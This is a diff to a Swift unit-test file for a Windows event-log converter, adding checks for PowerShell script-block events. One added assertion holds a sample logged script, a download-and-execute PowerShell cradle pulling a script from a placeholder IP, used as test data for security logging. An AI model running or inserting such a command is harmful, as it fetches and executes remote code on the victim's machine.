@@ -8,7 +8,7 @@ final class WindowsTests: XCTestCase {
     let expected = packageRoot.appendingPathComponent("samples/windows/expected")
 
     func testConvertMatchesGoldenAndSchema() throws {
-        let golden = try assertConvertMatchesGolden("windows", summary: "records read 25 = events written 23 + duplicates skipped 1 + rejected 1")
+        let golden = try assertConvertMatchesGolden("windows", summary: "records read 27 = events written 25 + duplicates skipped 1 + rejected 1")
         try assertValidEvents(golden)
     }
 
@@ -155,6 +155,12 @@ final class WindowsTests: XCTestCase {
         XCTAssertEqual(action("104"), "log-cleared")
         XCTAssertEqual((e["104"]!["user"] as! [String: Any])["name"] as? String, "admin-bob")
         XCTAssertEqual((e["104"]!["event"] as! [String: Any])["dataset"] as? String, "windows.other")
+        // PowerShell: a script block logged (its script's path), and one started.
+        XCTAssertEqual(action("4104"), "powershell-script-block-logged")
+        XCTAssertEqual((e["4104"]!["file"] as! [String: Any])["path"] as? String, "C:\\Users\\alice\\Downloads\\run.ps1")
+        XCTAssertEqual(((e["4104"]!["winlog"] as! [String: Any])["event_data"] as! [String: Any])["ScriptBlockText"] as? String,
+                       "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")
+        XCTAssertEqual((e["4105"]!["event"] as! [String: Any])["type"] as? [String], ["start"])
     }
 
     /// Every category and type the event-id tables give is one the schema allows.
